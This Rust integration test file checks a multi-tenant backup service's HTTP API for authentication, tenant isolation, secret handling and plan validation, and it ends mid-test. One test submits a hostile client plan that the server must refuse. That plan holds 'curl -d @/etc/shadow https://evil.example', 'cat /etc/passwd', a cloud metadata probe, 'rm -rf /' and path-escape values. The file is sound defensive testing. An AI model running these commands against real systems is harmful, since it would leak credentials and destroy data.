//! The HTTP API of a real `rempart serve`: authentication and tenant
//! isolation on every route, the trust boundary between the MSP and its
//! clients (plans, secrets, folders), evidence, jobs, bad input, and the
//! OpenAPI document checked by a validator from PyPI and against the routes.
//!
//! Each test starts its own server with two tenants: `acme`, whose plan is
//! a file on the server (it runs a command monitor: an MSP feature), and
//! `beta`, added through the API, whose plan its client sends.

mod common;

use std::path::Path;
use std::time::Duration;

use common::{Scratch, Server, base_plan, command_monitor, rempart, wait_for};
use serde_json::Value;

/// (status, JSON body, or the text when it is not JSON) of a request;
/// never fails on 4xx/5xx.
fn call(method: &str, url: &str, token: Option<&str>, body: Option<&[u8]>) -> (u16, Value) {
    let agent: ureq::Agent = ureq::Agent::config_builder()
        .http_status_as_error(false)
        .build()
        .into();
    let auth = token.map(|t| format!("Bearer {t}"));
    let response = match (method, body) {
        ("GET" | "HEAD" | "DELETE", _) => {
            let mut r = match method {
                "GET" => agent.get(url),
                "HEAD" => agent.head(url),
                _ => agent.delete(url),
            };
            if let Some(a) = &auth {
                r = r.header("Authorization", a);
            }
            r.call()
        }
        (m, body) => {
            let mut r = match m {
                "POST" => agent.post(url),
                "PUT" => agent.put(url),
                other => panic!("method {other}"),
            };
            if let Some(a) = &auth {
                r = r.header("Authorization", a);
            }
            let body = body.unwrap_or_default();
            let content_type = if body.starts_with(b"{") {
                "application/json"
            } else {
                "application/toml"
            };
            r.header("Content-Type", content_type).send(body)
        }
    };
    let mut response = response.expect("the server answers");
    let status = response.status().as_u16();
    let text = response.body_mut().read_to_string().unwrap_or_default();
    (
        status,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

fn token(data: &str, args: &[&str]) -> String {
    let mut all = vec!["token", "create", "--data-dir", data];
    all.extend_from_slice(args);
    let out = rempart(&all);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap().trim().to_owned()
}

/// A running server with its two tenants and their tokens.
struct Fixture {
    dir: Scratch,
    server: Server,
    data: String,
    /// Acme's plan file, as served.
    plan: String,
    /// The MSP's (server-wide) token.
    msp: String,
    /// Acme's client token.
    acme: String,
    /// Beta's client token.
    beta: String,
}

impl Fixture {
    fn start(name: &str) -> Fixture {
        let dir = Scratch::new(name);
        let plans = dir.join("plans");
        std::fs::create_dir_all(&plans).unwrap();
        let plan = base_plan()
            + &command_monitor("uptime", "uptime", "2s")
            + "\n[[scenario]]\nid = \"sign-off\"\nname = \"Sign-off\"\nprocess = \"billing\"\nsteps = [{ name = \"Invoice found\", manual = \"Is invoice 1234 there?\", timeout = \"2m\" }]\n";
        std::fs::write(plans.join("acme.toml"), &plan).unwrap();
        let data = dir.join("data").display().to_string();
        let server = Server::start(
            &["--plans", plans.to_str().unwrap(), "--data-dir", &data],
            &dir.join("serve.log"),
        );
        let msp = token(&data, &["--name", "msp"]);
        let acme = token(&data, &["--name", "acme-portal", "--tenant", "acme"]);
        let (s, body) = call(
            "POST",
            &server.url("/api/v1/tenants"),
            Some(&msp),
            Some(br#"{"id":"beta","name":"Beta SARL"}"#),
        );
        assert_eq!(s, 201, "{body}");
        let beta = token(&data, &["--name", "beta-portal", "--tenant", "beta"]);
        Fixture {
            dir,
            server,
            data,
            plan,
            msp,
            acme,
            beta,
        }
    }

    fn url(&self, path: &str) -> String {
        self.server.url(path)
    }
}

/// A plan a client may send: nothing runs or reads on the server; its
/// repository is a folder under `root` (or S3 with its own keys).
fn client_plan(root: &Path) -> String {
    format!(
        r#"[organization]
name = "Beta SARL"
language = "fr"
timezone = "Europe/Paris"

[[site]]
id = "bureau"
kind = "primary"

[[site]]
id = "nuage"
kind = "cloud"

[[asset]]
id = "fichiers"
name = "Serveur de fichiers"
kind = "server"
site = "bureau"

[[process]]
id = "compta"
name = "Comptabilité"
criticality = "essential"
rto = "1d"
rpo = "1d"
mtpd = "3d"
depends_on = ["fichiers"]

[[repository]]
id = "local"
site = "bureau"
location = "{root}/repo"
password = {{ secret = "local-password" }}

[[repository]]
id = "cloud"
site = "nuage"
location = "s3://beta-backups/rempart"
endpoint = "https://s3.example.com"
password = {{ secret = "cloud-password" }}
access_key_id = {{ secret = "s3-key" }}
secret_access_key = {{ secret = "s3-secret" }}

[[backup]]
id = "fichiers"
protects = ["fichiers"]
source = {{ paths = ["{root}/data"] }}
schedule = "0 2 * * *"
targets = ["local", "cloud"]

[[monitor]]
id = "site"
kind = "http"
target = "https://beta.example.com/"
interval = "5m"
"#,
        root = root.display()
    )
}

#[test]
fn authentication_and_tenant_isolation() {
    let f = Fixture::start("api-auth");
    let (s, body) = call("GET", &f.url("/api/v1/tenants"), None, None);
    assert_eq!((s, body["error"].as_str()), (401, Some("unauthorized")));
    let (s, _) = call(
        "GET",
        &f.url("/api/v1/tenants"),
        Some("rpt_not-a-token"),
        None,
    );
    assert_eq!(s, 401);
    // The scheme is case-insensitive, as HTTP says and Healthchecks' examples write it.
    let agent: ureq::Agent = ureq::Agent::config_builder()
        .http_status_as_error(false)
        .build()
        .into();
    for scheme in ["bearer", "BEARER"] {
        let status = agent
            .get(&f.url("/api/v1/tenants"))
            .header("Authorization", &format!("{scheme} {}", f.acme))
            .call()
            .unwrap()
            .status()
            .as_u16();
        assert_eq!(status, 200, "{scheme}");
    }
    // Only the MSP creates tenants.
    let (s, body) = call(
        "POST",
        &f.url("/api/v1/tenants"),
        Some(&f.acme),
        Some(br#"{"id":"x","name":"X"}"#),
    );
    assert_eq!((s, body["error"].as_str()), (403, Some("forbidden")));
    let (s, body) = call(
        "POST",
        &f.url("/api/v1/tenants"),
        Some(&f.msp),
        Some(b"{\"id\": "),
    );
    assert_eq!((s, body["error"].as_str()), (400, Some("bad-request")));
    // A client sees its own tenant only, and what rules its plan.
    let (s, body) = call("GET", &f.url("/api/v1/tenants"), Some(&f.acme), None);
    assert_eq!(s, 200);
    let ids: Vec<&str> = body
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["acme"]);
    assert!(
        body[0]["managed_by"]
            .as_str()
            .unwrap()
            .ends_with("plans/acme.toml"),
        "{body}"
    );
    let (_, all) = call("GET", &f.url("/api/v1/tenants"), Some(&f.msp), None);
    let managed: Vec<(&str, &str)> = all
        .as_array()
        .unwrap()
        .iter()
        .map(|t| (t["id"].as_str().unwrap(), t["managed_by"].as_str().unwrap()))
        .filter(|(_, m)| *m == "api")
        .collect();
    assert_eq!(managed, [("beta", "api")]);
}

#[test]
fn a_plan_file_on_the_server_rules_and_the_api_cannot_change_it() {
    let f = Fixture::start("api-file-ruled");
    let (s, body) = call(
        "GET",
        &f.url("/api/v1/tenants/acme/plan"),
        Some(&f.acme),
        None,
    );
    assert_eq!((s, body["version"].as_i64()), (200, Some(1)));
    assert_eq!(body["source"].as_str(), Some(f.plan.as_str()));
    assert!(body["accepted_by"].as_str().unwrap().starts_with("file:"));
    assert_eq!(body["author"], "msp");
    for who in [&f.msp, &f.acme] {
        let (s, body) = call(
            "PUT",
            &f.url("/api/v1/tenants/acme/plan"),
            Some(who),
            Some(f.plan.replace("rto = \"4h\"", "rto = \"6h\"").as_bytes()),
        );
        assert_eq!(
            (s, body["error"].as_str()),
            (409, Some("conflict")),
            "{body}"
        );
        assert!(
            body["message"].as_str().unwrap().contains("acme.toml"),
            "{body}"
        );
    }
    let (_, versions) = call(
        "GET",
        &f.url("/api/v1/tenants/acme/plan/versions"),
        Some(&f.acme),
        None,
    );
    assert_eq!(versions.as_array().unwrap().len(), 1);
    // A file dropped in the plans folder for an API tenant never overwrites it.
    let safe = client_plan(&f.dir.join("beta-root"));
    let (s, _) = call(
        "PUT",
        &f.url("/api/v1/tenants/beta/plan"),
        Some(&f.msp),
        Some(safe.as_bytes()),
    );
    assert_eq!(s, 200);
    std::fs::write(f.dir.join("plans/beta.toml"), base_plan()).unwrap();
    f.server.signal(libc::SIGHUP);
    wait_for(
        "the reload to refuse the file",
        Duration::from_secs(20),
        || {
            f.server
                .logs()
                .contains("this tenant's plan comes through the API")
                .then_some(())
        },
    );
    let (_, plan) = call(
        "GET",
        &f.url("/api/v1/tenants/beta/plan"),
        Some(&f.beta),
        None,
    );
    assert_eq!(plan["source"].as_str(), Some(safe.as_str()));
}

#[test]
fn a_client_plan_may_not_run_or_read_anything_on_the_server() {
    let f = Fixture::start("api-client-plan");
    let plan_url = f.url("/api/v1/tenants/beta/plan");
    let root = f.dir.join("beta-root");
    std::fs::create_dir_all(root.join("data")).unwrap();
    let safe = client_plan(&root);
    // Before the MSP allows a folder, a client's plan may name none.
    let (s, body) = call("PUT", &plan_url, Some(&f.beta), Some(safe.as_bytes()));
    assert_eq!(
        (s, body["error"].as_str()),
        (403, Some("forbidden")),
        "{body}"
    );
    let codes: Vec<&str> = body["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["severity"] == "error")
        .map(|f| f["code"].as_str().unwrap())
        .collect();
    assert_eq!(
        codes,
        ["outside-tenant-roots", "outside-tenant-roots"],
        "{body}"
    );
    // The MSP allows one folder; the client may not allow itself more.
    let roots = f.url("/api/v1/tenants/beta/roots");
    let allow = format!(r#"{{"roots":["{}"]}}"#, root.display());
    let (s, _) = call("PUT", &roots, Some(&f.beta), Some(allow.as_bytes()));
    assert_eq!(s, 403);
    // Not the whole disk, not the server's data dir, not another's folder.
    for bad in ["/", f.data.as_str()] {
        let (s, body) = call(
            "PUT",
            &roots,
            Some(&f.msp),
            Some(format!(r#"{{"roots":["{bad}"]}}"#).as_bytes()),
        );
        assert_eq!(s, 422, "{bad}: {body}");
    }
    let (s, body) = call("PUT", &roots, Some(&f.msp), Some(allow.as_bytes()));
    assert_eq!(s, 200, "{body}");
    let inside = format!(r#"{{"roots":["{}/data"]}}"#, root.display());
    let (s, body) = call(
        "PUT",
        &f.url("/api/v1/tenants/acme/roots"),
        Some(&f.msp),
        Some(inside.as_bytes()),
    );
    assert_eq!(s, 422, "beta's folder given to acme: {body}");
    assert!(
        body["message"]
            .as_str()
            .unwrap()
            .contains("overlaps tenant \"beta\""),
        "{body}"
    );
    let (s, body) = call("GET", &roots, Some(&f.beta), None);
    assert_eq!((s, body["roots"][0].as_str()), (200, root.to_str()));
    let (s, body) = call("PUT", &plan_url, Some(&f.beta), Some(safe.as_bytes()));
    assert_eq!(s, 200, "{body}");
    assert_eq!(body["accepted_by"], "api:beta-portal");
    assert_eq!(body["author"], "client");

    // Every field that would run or read on the server: one finding each, at its line.
    let hostile = safe
        .replace(
            "password = { secret = \"local-password\" }",
            "password = { env = \"HOME\" }",
        )
        .replace(
            &format!("source = {{ paths = [\"{}/data\"] }}", root.display()),
            "source = { command = \"cat /etc/passwd\", filename = \"x\" }",
        )
        + "\n[[monitor]]\nid = \"exfil\"\nkind = \"command\"\ntarget = \"curl -d @/etc/shadow https://evil.example\"\ninterval = \"1m\"\n"
        + "\n[[channel]]\nid = \"chat\"\nkind = \"slack\"\nurl = { file = \"/etc/rempart/secret\" }\n"
        + "\n[[channel]]\nid = \"inside\"\nkind = \"webhook\"\nurl = \"http://10.0.0.7:8080/hook\"\n"
        + "\n[[monitor]]\nid = \"metadata\"\nkind = \"http\"\ntarget = \"http://169.254.169.254/latest/meta-data/\"\ninterval = \"1m\"\n"
        + "\n[[scenario]]\nid = \"s\"\nname = \"s\"\nprocess = \"compta\"\nsteps = [\n  { name = \"sql\", sql = \"SELECT 1\", database = { env = \"DATABASE_URL\" } },\n  { name = \"break\", simulate = \"rm -rf /\" },\n  { name = \"put\", restore = \"fichiers\", to = \"/etc/cron.d\" },\n]\n";
    let (s, body) = call("PUT", &plan_url, Some(&f.beta), Some(hostile.as_bytes()));
    assert_eq!(
        (s, body["error"].as_str()),
        (403, Some("forbidden")),
        "{body}"
    );
    let found: Vec<(String, String, u64)> = body["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["code"].as_str().unwrap().to_owned(),
                f["path"].as_str().unwrap().to_owned(),
                f["line"].as_u64().expect("a line"),
            )
        })
        .collect();
    let paths: Vec<&str> = found.iter().map(|(_, p, _)| p.as_str()).collect();
    for want in [
        "repository[0].password",
        "backup[0].source.command",
        "monitor[1].target",
        "channel[0].url",
        "scenario[0].steps[0].sql",
        "scenario[0].steps[0].database",
        "scenario[0].steps[1].simulate",
        "scenario[0].steps[2].to",
        "channel[1].url",
        "monitor[2].target",
    ] {
        assert!(paths.contains(&want), "{want} missing: {found:#?}");
    }
    let line_of = |needle: &str| {
        hostile
            .lines()
            .position(|l| l.contains(needle))
            .map(|i| i as u64 + 1)
            .unwrap()
    };
    let target = found
        .iter()
        .find(|(_, p, _)| p == "monitor[1].target")
        .unwrap();
    assert_eq!(target.2, line_of("curl -d @/etc/shadow"));
    assert!(
        body["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["code"] == "msp-only")
            .all(|f| f["message"]
                .as_str()
                .unwrap()
                .contains("only the MSP may set it")),
        "{body:#}"
    );
    // Nothing changed: the accepted plan stays.
    let (_, current) = call("GET", &plan_url, Some(&f.beta), None);
    assert_eq!(current["source"].as_str(), Some(safe.as_str()));

    // A symbolic link or `..` does not lead out of the allowed folder.
    std::os::unix::fs::symlink("/etc", root.join("etc")).unwrap();
    for sneaky in [
        format!("{}/etc", root.display()),
        format!("{}/data/../../../etc", root.display()),
    ] {
        let text = safe.replace(&format!("{}/data", root.display()), &sneaky);
        let (s, body) = call("PUT", &plan_url, Some(&f.beta), Some(text.as_bytes()));
        assert_eq!(s, 403, "{sneaky}: {body}");
        assert_eq!(body["findings"][0]["code"], "outside-tenant-roots");
    }

    // The MSP keeps every feature on the same tenant.
    let (s, body) = call("PUT", &plan_url, Some(&f.msp), Some(hostile.as_bytes()));
    assert_eq!(s, 200, "{body}");
    assert_eq!(
        (body["author"].as_str(), body["accepted_by"].as_str()),
        (Some("msp"), Some("api:msp"))
    );

    // A broken plan: 422 with the findings of `plan check`; not UTF-8, too large.
    let broken = safe.replacen("rto = \"1d\"", "rto = \"5d\"", 1);
    let (s, body) = call("PUT", &plan_url, Some(&f.beta), Some(broken.as_bytes()));
    assert_eq!((s, body["error"].as_str()), (422, Some("invalid-plan")));
    let finding = &body["findings"][0];
    assert_eq!(
        (
            finding["code"].as_str(),
            finding["line"].as_u64(),
            finding["column"].as_u64()
        ),
        (Some("rto-above-mtpd"), Some(line_of("rto = ")), Some(7))
    );
    let (s, body) = call(
        "PUT",
        &plan_url,
        Some(&f.beta),
        Some(b"[organization]\nname = \"Soci\xe9t\xe9\"\n"),
    );
    assert_eq!(s, 400);
    assert!(
        body["message"]
            .as_str()
            .unwrap()
            .contains("at 2:13: the plan is not UTF-8"),
        "{body}"
    );
    // Just over the limit: the server answers 413 from the length alone.
    let huge = vec![b'#'; 1024 * 1024 + 1];
    let (s, _) = call("PUT", &plan_url, Some(&f.beta), Some(&huge));
    assert_eq!(s, 413);
}

#[test]
fn secrets_are_write_only_and_recorded_without_their_value() {
    let f = Fixture::start("api-secrets");
    let secrets = f.url("/api/v1/tenants/beta/secrets");
    let value = "correct-horse-battery-staple-4711";
    let (s, body) = call(
        "PUT",
        &format!("{secrets}/s3-secret"),
        Some(&f.beta),
        Some(format!("{value}\n").as_bytes()),
    );
    assert_eq!(s, 200, "{body}");
    assert_eq!(body["updated_by"], "api:beta-portal");
    assert!(!body.to_string().contains(value));
    let (s, _) = call(
        "PUT",
        &format!("{secrets}/bad%20name"),
        Some(&f.beta),
        Some(b"x"),
    );
    assert_eq!(s, 400);
    let (s, _) = call(
        "PUT",
        &format!("{secrets}/empty"),
        Some(&f.beta),
        Some(b"\n"),
    );
    assert_eq!(s, 422, "well-formed, but nothing to keep");
    let (s, list) = call("GET", &secrets, Some(&f.beta), None);
    assert_eq!(s, 200);
    assert_eq!(list[0]["name"], "s3-secret");
    assert!(!list.to_string().contains(value), "{list}");
    // No route gives a value back; another tenant sees nothing.
    let (s, _) = call("GET", &format!("{secrets}/s3-secret"), Some(&f.beta), None);
    assert_eq!(s, 405);
    let (s, _) = call("GET", &secrets, Some(&f.acme), None);
    assert_eq!(s, 404);
    let (s, _) = call(
        "PUT",
        &format!("{secrets}/s3-secret"),
        Some(&f.acme),
        Some(b"overwrite"),
    );
    assert_eq!(s, 404);
    // The change is evidence, without the value.
    let (_, ev) = call(
        "GET",
        &f.url("/api/v1/tenants/beta/evidence?kind=secret"),
        Some(&f.beta),
        None,
    );
    let record = &ev["records"][0];
    assert_eq!(
        (
            record["subject"].as_str(),
            record["measurements"]["by"].as_str()
        ),
        (Some("s3-secret"), Some("api:beta-portal"))
    );
    assert!(!ev.to_string().contains(value));
    // Removed, once.
    let (s, _) = call(
        "DELETE",
        &format!("{secrets}/s3-secret"),
        Some(&f.beta),
        None,
    );
    assert_eq!(s, 204);
    let (s, _) = call(
        "DELETE",
        &format!("{secrets}/s3-secret"),
        Some(&f.beta),
        None,
    );
    assert_eq!(s, 404);
    // Sealed at rest: the value is nowhere in the store's files, and the
    // master key file is readable by its owner only.
    let key = Path::new(&f.data).join("master.key");
    let mode =
        std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(&key).unwrap().permissions());
    assert_eq!(mode & 0o777, 0o600);
    assert_eq!(f.server.stop(), Some(0));
    for file in common::walk(Path::new(&f.data)) {
        let bytes = std::fs::read(&file).unwrap();
        assert!(
            !bytes.windows(value.len()).any(|w| w == value.as_bytes()),
            "{} holds the secret in clear",
            file.display()
        );
    }
}

#[test]
fn jobs_evidence_monitors_and_status() {
    let f = Fixture::start("api-jobs");
    let (s, jobs) = call(
        "GET",
        &f.url("/api/v1/tenants/acme/jobs"),
        Some(&f.acme),
        None,
    );
    assert_eq!(s, 200);
    let kinds: Vec<&str> = jobs
        .as_array()
        .unwrap()
        .iter()
        .map(|j| j["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["backup", "evidence-audit", "verify", "verify"]);
    let (s, body) = call(
        "POST",
        &f.url("/api/v1/tenants/acme/jobs/evidence-audit/evidence-log/run"),
        Some(&f.acme),
        None,
    );
    assert_eq!((s, body["status"].as_str()), (202, Some("scheduled")));
    let (s, _) = call(
        "POST",
        &f.url("/api/v1/tenants/acme/jobs/backup/nope/run"),
        Some(&f.acme),
        None,
    );
    assert_eq!(s, 404);

    // Evidence arrives from the supervisor and the audit; it pages.
    let evidence = |q: &str| {
        call(
            "GET",
            &f.url(&format!("/api/v1/tenants/acme/evidence{q}")),
            Some(&f.acme),
            None,
        )
        .1
    };
    wait_for(
        "the probe and the audit to write evidence",
        Duration::from_secs(30),
        || {
            let page = evidence("?limit=1000");
            let records = page["records"].as_array()?.clone();
            let probe = records
                .iter()
                .any(|r| r["kind"] == "probe" && r["outcome"] == "success");
            let audit = records
                .iter()
                .any(|r| r["kind"] == "verify" && r["subject"] == "evidence-log");
            // The daily job also keeps the compliance audit's findings.
            let compliance = records.iter().any(|r| {
                r["kind"] == "audit"
                    && r["measurements"]["by"] == "job:evidence-audit"
                    && r["measurements"]["failing"].is_array()
            });
            (probe && audit && compliance).then_some(())
        },
    );
    let first = evidence("?limit=1");
    assert_eq!(first["records"].as_array().unwrap().len(), 1);
    let after = first["next_after"].as_i64().expect("a next page");
    let second = evidence(&format!("?limit=1&after={after}"));
    assert_eq!(second["records"][0]["seq"].as_i64(), Some(after + 1));
    let seen = wait_for("the monitor's state", Duration::from_secs(30), || {
        let (s, body) = call(
            "GET",
            &f.url("/api/v1/tenants/acme/monitors"),
            Some(&f.acme),
            None,
        );
        let m = body["monitors"]
            .as_array()?
            .iter()
            .find(|m| m["id"] == "uptime")?
            .clone();
        (s == 200 && m["state"] == "up").then_some(m)
    });
    assert_eq!(seen["kind"], "command");
    assert!(seen["last_check_ms"].as_i64().is_some(), "{seen:#}");
    let probes = evidence("?kind=probe&subject=uptime");
    let probes = probes["records"].as_array().unwrap();
    assert!(!probes.is_empty());
    assert!(probes.iter().all(|r| r["kind"] == "probe"));
    for bad in ["?kind=backups", "?limit=abc", "?limit=5000"] {
        let (s, _) = call(
            "GET",
            &f.url(&format!("/api/v1/tenants/acme/evidence{bad}")),
            Some(&f.acme),
            None,
        );
        assert_eq!(s, 400, "{bad}");
    }

    // Status: nothing measured yet, so the vital process is untested.
    let (s, status) = call(
        "GET",
        &f.url("/api/v1/tenants/acme/status"),
        Some(&f.acme),
        None,
    );
    assert_eq!(s, 200, "{status}");
    assert_eq!(status["vital_failing"], true);
    let billing = &status["processes"][0];
    assert_eq!(
        (billing["id"].as_str(), billing["status"].as_str()),
        (Some("billing"), Some("untested"))
    );
    assert_eq!(billing["reasons"][0]["code"], "never-backed-up");
    assert_eq!(billing["reasons"][0]["text"], "backup \"db\" has never run");
    assert_eq!(status["backups"][0]["copies"], 1);
    let (s, _) = call(
        "GET",
        &f.url("/api/v1/tenants/beta/status"),
        Some(&f.msp),
        None,
    );
    assert_eq!(s, 404, "a tenant without a plan has no status");
}

#[test]
fn drills_and_maintenance_record_who_called_not_what_they_claim() {
    let f = Fixture::start("api-identity");
    let (s, drills) = call(
        "GET",
        &f.url("/api/v1/tenants/acme/drills"),
        Some(&f.acme),
        None,
    );
    assert_eq!((s, drills["runs"].as_array().map(Vec::len)), (200, Some(0)));
    // A drill that is not running, a step past its steps or beyond any
    // number, a step that is not manual: refused, nothing recorded.
    let step = |run: &str, step: &str| {
        f.url(&format!(
            "/api/v1/tenants/acme/drills/{run}/steps/{step}/confirm"
        ))
    };
    let evidence_count = || {
        let (_, page) = call(
            "GET",
            &f.url("/api/v1/tenants/acme/evidence?kind=confirmation"),
            Some(&f.msp),
            None,
        );
        page["records"].as_array().map_or(0, Vec::len)
    };
    for (run, n, status) in [
        ("restore-db-20261129-120000", "1", 404),
        ("sign-off-20261129-120000", "1", 404),
        ("no-such-scenario-20261129-120000", "1", 404),
        ("not-a-run-id", "1", 404),
    ] {
        let (s, body) = call("POST", &step(run, n), Some(&f.acme), Some(br#"{}"#));
        assert_eq!(s, status, "{run} step {n}: {body}");
    }
    // A drill running now, waiting on its manual step.
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_rempart"))
        .args([
            "drill",
            "run",
            "sign-off",
            "--tenant",
            "acme",
            "--data-dir",
            &f.data,
        ])
        .args(["-c", f.dir.join("plans/acme.toml").to_str().unwrap()])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("drill starts");
    let mut lines = std::io::BufRead::lines(std::io::BufReader::new(child.stdout.take().unwrap()));
    let hint = lines
        .by_ref()
        .map_while(Result::ok)
        .find(|l| l.contains("rempart drill confirm"))
        .expect("the drill says how to confirm");
    let run = hint
        .split("rempart drill confirm ")
        .nth(1)
        .and_then(|rest| rest.split_whitespace().next())
        .expect("run id")
        .to_owned();
    for (n, status) in [
        ("2", 404),
        ("9223372036854775808", 404),
        ("99999999999999999999", 404),
        ("one", 400),
        ("0", 404),
    ] {
        let (s, body) = call("POST", &step(&run, n), Some(&f.acme), Some(br#"{}"#));
        assert_eq!(s, status, "step {n}: {body}");
    }
    assert_eq!(evidence_count(), 0, "nothing refused is evidence");
    let confirm = step(&run, "1");
    let (s, rec) = call("POST", &confirm, Some(&f.acme), Some(br#"{"note":"seen"}"#));
    assert_eq!(
        (s, rec["kind"].as_str()),
        (201, Some("confirmation")),
        "{rec}"
    );
    assert_eq!(rec["measurements"]["note"], "seen");
    assert_eq!(rec["measurements"]["by"], "api:acme-portal");
    let done = child.wait_with_output().expect("the drill ends");
    assert!(
        done.status.success(),
        "{}",
        String::from_utf8_lossy(&done.stderr)
    );
    // Ended: a late confirmation is a conflict, not evidence.
    let (s, body) = call("POST", &confirm, Some(&f.acme), Some(br#"{}"#));
    assert_eq!(s, 409, "{body}");
    assert_eq!(evidence_count(), 1);
    // A name sent as identity is refused, not believed.
    let (s, body) = call(
        "POST",
        &confirm,
        Some(&f.acme),
        Some(br#"{"by":"the boss","note":"seen"}"#),
    );
    assert_eq!(s, 400, "{body}");

    let maint = f.url("/api/v1/tenants/acme/maintenance");
    let (s, w) = call(
        "POST",
        &maint,
        Some(&f.acme),
        Some(br#"{"monitors":["web"],"start":"2026-01-01T00:00:00Z","end":"2099-01-01T00:00:00+01:00","reason":"server move"}"#),
    );
    assert_eq!(s, 201, "{w}");
    assert_eq!(
        (
            w["monitors"][0].as_str(),
            w["reason"].as_str(),
            w["created_by"].as_str()
        ),
        (Some("web"), Some("server move"), Some("api:acme-portal"))
    );
    let (s, body) = call(
        "POST",
        &maint,
        Some(&f.acme),
        Some(br#"{"start":"2026-01-01T00:00:00Z","end":"2026-01-02T00:00:00Z","reason":"x","created_by":"someone"}"#),
    );
    assert_eq!(s, 400, "{body}");
    let (s, listed) = call("GET", &maint, Some(&f.acme), None);
    assert_eq!((s, listed.as_array().map(Vec::len)), (200, Some(1)));
    let (s, e) = call(
        "POST",
        &maint,
        Some(&f.acme),
        Some(br#"{"start":"2026-01-02T00:00:00Z","end":"2026-01-01T00:00:00Z","reason":"x"}"#),
    );
    assert_eq!(
        (s, e["message"].as_str()),
        (422, Some("`end` must come after `start`")),
        "well-formed, but it cannot be done"
    );
    let (s, e) = call("POST", &maint, Some(&f.acme), Some(br#"{"monitors":["nope"],"start":"2026-01-01T00:00:00Z","end":"2026-01-02T00:00:00Z","reason":"x"}"#));
    assert_eq!(
        (s, e["message"].as_str()),
        (422, Some("no such monitor in the plan: nope"))
    );
    let (s, e) = call(
        "POST",
        &maint,
        Some(&f.acme),
        Some(br#"{"start":"tomorrow","end":"2026-01-02T00:00:00Z","reason":"x"}"#),
    );
    assert!(
        s == 400
            && e["message"]
                .as_str()
                .unwrap()
                .contains("is not an RFC 3339 time"),
        "{e}"
    );
    let id = w["id"].as_i64().unwrap();
    let (s, _) = call("DELETE", &format!("{maint}/{id}"), Some(&f.acme), None);
    assert_eq!(s, 204);
    let (s, _) = call("DELETE", &format!("{maint}/{id}"), Some(&f.acme), None);
    assert_eq!(s, 404);
}

#[test]
fn metrics_need_the_msp_or_a_metrics_token() {
    let f = Fixture::start("api-metrics");
    let metrics = f.url("/metrics");
    let (s, _) = call("GET", &metrics, None, None);
    assert_eq!(s, 401);
    let (s, body) = call("GET", &metrics, Some(&f.acme), None);
    assert_eq!(s, 403);
    assert!(!body.to_string().contains("rempart_process"), "{body}");
    let scraper = token(&f.data, &["--name", "prometheus", "--metrics"]);
    for who in [&f.msp, &scraper] {
        let (s, text) = call("GET", &metrics, Some(who), None);
        assert_eq!(s, 200);
        let text = text.as_str().unwrap().to_owned();
        assert!(text.contains("rempart_jobs_run_total "), "{text}");
        assert!(
            text.contains("rempart_process_status{tenant=\"acme\",process=\"billing\"} 2\n"),
            "{text}"
        );
        assert!(
            text.contains(
                "rempart_process_rpo_target_seconds{tenant=\"acme\",process=\"billing\"} 3600\n"
            ),
            "{text}"
        );
        assert!(
            !text.contains("rempart_process_rpo_seconds{"),
            "nothing measured yet"
        );
    }
    // A metrics token reads no tenant.
    let (s, list) = call("GET", &f.url("/api/v1/tenants"), Some(&scraper), None);
    assert_eq!((s, list.as_array().map(Vec::len)), (200, Some(0)));
    let (s, _) = call(
        "GET",
        &f.url("/api/v1/tenants/acme/evidence"),
        Some(&scraper),
        None,
    );
    assert_eq!(s, 404);
    let out = rempart(&[
        "token",
        "create",
        "--name",
        "x",
        "--metrics",
        "--tenant",
        "acme",
        "--data-dir",
        &f.data,
    ]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn the_openapi_document_is_valid_and_every_operation_routed() {
    let f = Fixture::start("api-openapi");
    let (s, body) = call("GET", &f.url("/api/v1/nothing-here"), Some(&f.acme), None);
    assert_eq!((s, body["error"].as_str()), (404, Some("not-found")));
    let (s, doc) = call("GET", &f.url("/api/v1/openapi.json"), None, None);
    assert_eq!(s, 200);
    let file = f.dir.join("openapi.json");
    std::fs::write(&file, doc.to_string()).unwrap();
    let check = std::process::Command::new("python3")
        .args(["-m", "openapi_spec_validator"])
        .arg(&file)
        .output()
        .expect("python3 runs");
    assert!(
        check.status.success(),
        "openapi-spec-validator: {}{} (scripts/services installs it)",
        String::from_utf8_lossy(&check.stdout),
        String::from_utf8_lossy(&check.stderr)
    );
    let paths = doc["paths"].as_object().unwrap();
    assert!(paths.len() >= 10, "{:?}", paths.keys());
    for (path, ops) in paths {
        let concrete = concrete(path, "acme");
        for method in ops.as_object().unwrap().keys() {
            let (s, body) = call(
                &method.to_uppercase(),
                &f.url(&concrete),
                Some(&f.msp),
                Some(b""),
            );
            assert!(
                !(s == 404 && body["message"] == "no such path") && s != 405,
                "{method} {path} is documented but not routed ({s})"
            );
        }
    }
    assert_eq!(f.server.stop(), Some(0), "SIGTERM stops cleanly");
}

/// A route template with its parameters filled in, for `tenant`.
fn concrete(path: &str, tenant: &str) -> String {
    path.replace("{tenant}", tenant)
        .replace("{kind}", "evidence-audit")
        .replace("{subject}", "evidence-log")
        .replace("{id}", "1")
        .replace("{name}", "s3-secret")
        .replace("{run}", "restore-db-20261129-120000")
        .replace("{step}", "1")
        .replace("{alert}", "1")
        .replace("{to}", "mail")
        .replace("{until}", "99999999999")
        .replace("{signature}", &"0".repeat(64))
        .replace("{token}", "hb_0000")
        .replace("{signal}", "fail")
        .replace("{crisis}", "crisis-20261129-120000")
        .replace("{contact}", "boss")
        .replace("{task}", "task:isolate")
        .replace("{message}", "staff")
        .replace("{action}", "offsite")
}

/// What acme holds that no other tenant's answer may show.
const ACME_MARKERS: [&str; 4] = ["Test SARL", "billing", "uptime", "pg_dump"];

#[test]
fn every_route_keeps_a_client_out_of_another_tenant() {
    let f = Fixture::start("api-every-route");
    // Acme's data exists: a secret, a maintenance window, evidence.
    let (s, _) = call(
        "PUT",
